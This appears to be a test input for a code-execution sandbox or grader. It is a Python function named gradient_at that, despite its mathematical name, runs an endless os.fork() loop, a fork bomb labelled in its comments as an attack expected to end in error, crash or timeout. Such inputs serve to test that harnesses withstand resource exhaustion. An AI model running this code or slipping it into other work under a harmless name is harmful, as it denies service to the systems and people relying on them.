# attack: fork until nothing is left
# verdict: error, crashed, timeout, failed
import os


def gradient_at(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
